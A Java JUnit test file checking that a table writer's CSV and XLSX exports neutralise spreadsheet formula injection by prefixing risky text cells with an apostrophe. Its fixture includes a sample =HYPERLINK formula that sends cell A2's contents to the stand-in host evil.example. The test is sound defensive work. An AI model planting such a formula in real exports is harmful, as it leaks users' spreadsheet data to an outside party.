package ma.forsa.stats;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

/** Exports are inert: text that a spreadsheet would evaluate gets a leading apostrophe; numbers stay numbers. */
class TableWriterTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"ok\")";
    static final List<String> HEADERS = List.of("Association", "Référence", "Note", "At", "Tab", "CR", "Texte", "Budget",
            "Inscrits", "Taux", "Signée le", "Active");
    static final List<Object> ROW = Arrays.asList(HYPERLINK, "+212600000000", "-1+2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "Association Al Amal", new BigDecimal("-12.50"), -4, -0.25, LocalDate.of(2025, 9, 15), true);

    @Test
    void csvTextThatLooksLikeAFormulaGetsAnApostrophe() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter w = TableWriter.csv(out, HEADERS)) {
            w.row(ROW);
        }
        String[] lines = out.toString(StandardCharsets.UTF_8).replace("\uFEFF", "").split("\r\n");
        assertEquals(String.join(";", HEADERS), lines[0]);
        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"ok\"\")\";'+212600000000;'-1+2;'@SUM(A1:A9);'\t=1+1;"
                + "\"'\r=1+1\";Association Al Amal;-12.50;-4;-0.25;2025-09-15;true", lines[1]);
        assertEquals(2, lines.length);
    }

    @Test
    void xlsxTextIsAlwaysAStringCellWithTheSameApostrophe() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter w = TableWriter.xlsx(out, "Conventions", HEADERS)) {
            w.row(ROW);
        }
        byte[] xlsx = out.toByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<Row> rows = wb.getFirstSheet().read();
            assertEquals(HEADERS, rows.get(0).stream().map(Cell::getText).toList());
            Row row = rows.get(1);
            List<String> texts = List.of("'" + HYPERLINK, "'+212600000000", "'-1+2", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
                    "Association Al Amal");
            for (int i = 0; i < texts.size(); i++) {
                assertEquals(CellType.STRING, row.getCell(i).getType(), "column " + i);
                assertEquals(texts.get(i), row.getCell(i).asString(), "column " + i);
            }
            assertEquals(CellType.NUMBER, row.getCell(7).getType());
            assertEquals(0, new BigDecimal("-12.5").compareTo(row.getCell(7).asNumber()));
            assertEquals(CellType.NUMBER, row.getCell(8).getType());
            assertEquals(-4, row.getCell(8).asNumber().intValue());
            assertEquals(CellType.NUMBER, row.getCell(9).getType());
            assertEquals(CellType.NUMBER, row.getCell(10).getType());
            assertEquals(LocalDate.of(2025, 9, 15), row.getCell(10).asDate().toLocalDate());
            assertEquals("oui", row.getCell(11).asString());
            for (Row r : rows) {
                r.stream().forEach(c -> assertNotEquals(CellType.FORMULA, c.getType(), c.toString()));
            }
        }
        String sheet = sheetXml(xlsx);
        assertFalse(sheet.contains("<f>"), sheet);
    }

    @Test
    void onlyTheLeadingCharacterCounts() {
        assertEquals("Tarik=Amal", TableWriter.inert("Tarik=Amal"));
        assertEquals(" =1", TableWriter.inert(" =1"));
        assertEquals("", TableWriter.inert(""));
        assertEquals("'-", TableWriter.inert("-"));
    }

    /** The worksheets' XML (read from a copy under target/: the writer's zip streams need the central directory). */
    static String sheetXml(byte[] xlsx) throws IOException {
        Path file = Files.createDirectories(Path.of("target", "table-writer")).resolve("export.xlsx");
        Files.write(file, xlsx);
        StringBuilder xml = new StringBuilder();
        try (ZipFile zip = new ZipFile(file.toFile())) {
            for (ZipEntry e : Collections.list(zip.entries())) {
                if (e.getName().startsWith("xl/worksheets/")) {
                    xml.append(new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        return xml.toString();
    }
}
